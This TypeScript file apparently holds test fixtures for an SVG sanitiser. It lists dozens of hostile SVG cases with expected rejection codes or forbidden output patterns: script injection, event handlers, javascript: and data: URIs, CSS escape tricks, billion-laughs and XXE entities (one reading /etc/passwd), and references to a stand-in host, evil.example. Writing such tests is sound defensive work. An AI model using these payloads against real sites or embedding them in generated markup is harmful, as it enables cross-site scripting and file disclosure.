/**
 * Test data: hostile SVGs for sanitize.test.ts. Each case either must be rejected with the given
 * `SvgInputError` code, or must come out without anything matching `forbidden`.
 */

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XL = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const wrap = (body: string, rootAttrs = "") =>
  `<svg ${NS} ${XL} viewBox="0 0 32 32"${rootAttrs}>${body}</svg>`;

export interface HostileCase {
  name: string;
  svg: string;
  /** Rejected outright with this SvgInputError code. */
  rejects?: string;
  /** Must not appear in the sanitised output. */
  forbidden?: RegExp[];
}

const laughs = [
  '<!DOCTYPE svg [<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
  "]>",
].join("");

export const HOSTILE: readonly HostileCase[] = [
  {
    name: "script element",
    svg: wrap("<script>alert(1)</script><circle cx='16' cy='16' r='4'/>"),
    forbidden: [/script/i, /alert/],
  },
  {
    name: "script with CDATA",
    svg: wrap("<script><![CDATA[alert(document.cookie)]]></script>"),
    forbidden: [/script/i, /cookie/],
  },
  {
    name: "script in xlink namespace form",
    svg: wrap('<script xlink:href="https://evil.example/x.js"/>'),
    forbidden: [/script/i, /evil/],
  },
  { name: "onload on root", svg: wrap("<g/>", ' onload="alert(1)"'), forbidden: [/onload/i, /alert/] },
  {
    name: "onclick and onmouseover on shapes",
    svg: wrap('<rect width="4" height="4" onclick="alert(1)" onmouseover="alert(2)"/>'),
    forbidden: [/on\w+=/i, /alert/],
  },
  {
    name: "mixed-case handler",
    svg: wrap('<circle r="3" OnLoAd="alert(1)"/>'),
    forbidden: [/onload/i, /alert/],
  },
  {
    name: "mixed-case script element",
    svg: wrap("<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(2)</ScRiPt>"),
    forbidden: [/script/i, /alert/],
  },
  {
    name: "foreignObject with HTML",
    svg: wrap(
      '<foreignObject width="32" height="32"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
    forbidden: [/foreignObject/i, /onerror/, /<img/, /<body/],
  },
  {
    name: "anchor with javascript: href",
    svg: wrap('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    forbidden: [/javascript/i, /<a[\s>]/],
  },
  {
    name: "anchor with xlink:href javascript:",
    svg: wrap('<a xlink:href="javascript:alert(1)"><circle r="3"/></a>'),
    forbidden: [/javascript/i],
  },
  {
    name: "encoded javascript&#58; in use href",
    svg: wrap('<use href="javascript&#58;alert(1)"/>'),
    forbidden: [/javascript/i, /<use/],
  },
  {
    name: "entity-encoded javascript with tabs",
    svg: wrap('<use xlink:href="jav&#x09;ascript:alert(1)"/>'),
    forbidden: [/ascript/i, /<use/],
  },
  {
    name: "data: URI in use",
    svg: wrap('<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>'),
    forbidden: [/data:/, /base64/],
  },
  {
    name: "external use reference",
    svg: wrap('<use href="https://evil.example/sprite.svg#icon"/>'),
    forbidden: [/evil/, /<use/],
  },
  {
    name: "protocol-relative use",
    svg: wrap('<use xlink:href="//evil.example/s.svg#a"/>'),
    forbidden: [/evil/],
  },
  {
    name: "image with external href",
    svg: wrap('<image href="https://evil.example/track.png" width="32" height="32"/>'),
    forbidden: [/<image/, /evil/],
  },
  {
    name: "image with data: href",
    svg: wrap('<image xlink:href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    forbidden: [/<image/, /data:/, /script/],
  },
  {
    name: "style element with import and url",
    svg: wrap(
      "<style>@import url(https://evil.example/x.css); rect{fill:url(javascript:alert(1))}</style><rect width='3' height='3'/>",
    ),
    forbidden: [/<style/, /@import/, /evil/, /javascript/],
  },
  {
    name: "style attribute with external url()",
    svg: wrap('<rect width="3" height="3" style="fill:url(https://evil.example/x.svg#p);stroke:red"/>'),
    forbidden: [/evil/, /url\((?!#)/],
  },
  {
    name: "style attribute with expression()",
    svg: wrap('<rect width="3" height="3" style="width:expression(alert(1));fill:blue"/>'),
    forbidden: [/expression/, /alert/],
  },
  {
    name: "style attribute with CSS escapes",
    svg: wrap('<rect width="3" height="3" style="fill:u\\72l(javascript:alert(1))"/>'),
    forbidden: [/javascript/, /\\/],
  },
  {
    name: "style attribute with comment split",
    svg: wrap('<rect width="3" height="3" style="fill:ur/**/l(https://evil.example/)"/>'),
    forbidden: [/evil/, /\/\*/],
  },
  {
    name: "behavior / binding in style",
    svg: wrap('<rect width="3" height="3" style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)"/>'),
    forbidden: [/behavior/, /binding/, /htc/],
  },
  {
    name: "fill attribute with javascript url",
    svg: wrap('<rect width="3" height="3" fill="url(javascript:alert(1))"/>'),
    forbidden: [/javascript/],
  },
  {
    name: "fill with external paint server",
    svg: wrap('<rect width="3" height="3" fill="url(https://evil.example/p.svg#g)"/>'),
    forbidden: [/evil/],
  },
  {
    name: "clip-path to external document",
    svg: wrap('<rect width="3" height="3" clip-path="url(other.svg#c)"/>'),
    forbidden: [/other\.svg/],
  },
  {
    name: "animate rewriting href to javascript:",
    svg: wrap('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    forbidden: [/animate/, /javascript/, /<text/],
  },
  {
    name: "set rewriting xlink:href",
    svg: wrap('<use href="#a"><set attributeName="xlink:href" to="javascript:alert(1)"/></use><g id="a"/>'),
    forbidden: [/<set/, /javascript/],
  },
  {
    name: "animate onbegin handler",
    svg: wrap('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    forbidden: [/onbegin/, /alert/, /animate/],
  },
  {
    name: "iframe and embed in svg namespace",
    svg: wrap('<iframe src="https://evil.example"/><embed src="x.swf"/><object data="x"/>'),
    forbidden: [/iframe|embed|object/, /evil/],
  },
  {
    name: "html namespaced script",
    svg: wrap('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'),
    forbidden: [/script/, /alert/],
  },
  {
    name: "xml-stylesheet processing instruction",
    svg: `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap("<g/>")}`,
    forbidden: [/stylesheet/, /evil/, /<\?/],
  },
  { name: "billion laughs", svg: `${laughs}${wrap("<title>&lol9;</title>")}`, rejects: "svg_doctype" },
  {
    name: "external entity (XXE)",
    svg: `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${wrap("<title>&xxe;</title>")}`,
    rejects: "svg_doctype",
  },
  {
    name: "parameter entity",
    svg: `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${wrap("<g/>")}`,
    rejects: "svg_doctype",
  },
  {
    name: "plain external DOCTYPE is dropped",
    svg: `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${wrap("<circle r='2'/>")}`,
    forbidden: [/DOCTYPE/, /w3\.org\/Graphics/],
  },
  { name: "undefined entity reference", svg: wrap("<title>&boom;</title>"), rejects: "svg_malformed" },
  { name: "malformed XML", svg: `<svg ${NS}><g><path d="M0 0"></g></svg>`, rejects: "svg_malformed" },
  { name: "duplicate attribute", svg: `<svg ${NS} onload="x" onload="y"/>`, rejects: "svg_malformed" },
  {
    name: "not an svg root",
    svg: '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    rejects: "svg_not_svg",
  },
  {
    name: "oversized input",
    svg: wrap(`<path d="M0 0${" L1 1".repeat(60_000)}"/>`),
    rejects: "svg_too_large",
  },
  {
    name: "too many elements",
    svg: wrap('<rect width="1" height="1"/>'.repeat(2_100)),
    rejects: "svg_too_many_elements",
  },
  { name: "empty input", svg: "   ", rejects: "svg_empty" },
  {
    name: "use bomb (nested use chains)",
    svg: wrap(
      `<g id="a"><circle r="1"/></g><g id="b"><use href="#a"/><use href="#a"/></g><g id="c"><use href="#b"/><use href="#b"/></g><use href="#c"/>`,
    ),
    forbidden: [/href="#b"/, /href="#c"/],
  },
  { name: "self-referencing use", svg: wrap('<g id="loop"><use href="#loop"/></g>'), forbidden: [/<use/] },
  {
    name: "use pointing at removed script",
    svg: wrap('<script id="s">alert(1)</script><use href="#s"/>'),
    forbidden: [/<use/, /script/],
  },
  {
    name: "id with markup characters",
    svg: wrap('<g id="a&quot; onload=&quot;alert(1)"/>'),
    forbidden: [/onload/, /alert/],
  },
  {
    name: "transform smuggling a url",
    svg: wrap('<g transform="url(javascript:alert(1))"/>'),
    forbidden: [/javascript/, /url/],
  },
  {
    name: "path data with markup",
    svg: wrap('<path d="M0 0 &lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    forbidden: [/script/, /alert/],
  },
  {
    name: "xml:base and custom namespaces",
    svg: wrap(
      '<g xml:base="https://evil.example/" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>',
    ),
    forbidden: [/evil/, /ev:event/, /xml:base/],
  },
  {
    name: "text content outside title",
    svg: wrap("<g>&lt;img src=x onerror=alert(1)&gt;</g>"),
    forbidden: [/onerror/, /<img/],
  },
  {
    name: "pathological attribute values",
    svg: wrap(
      `<rect width="${"e".repeat(5000)}!" fill="url(#a)${" ".repeat(900)}!" stroke="${"a".repeat(900)}("/>`,
    ),
    forbidden: [/width=/, /fill=/, /stroke=/],
  },
  {
    name: "title text stays escaped",
    svg: wrap("<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>"),
    forbidden: [/<script/],
  },
];
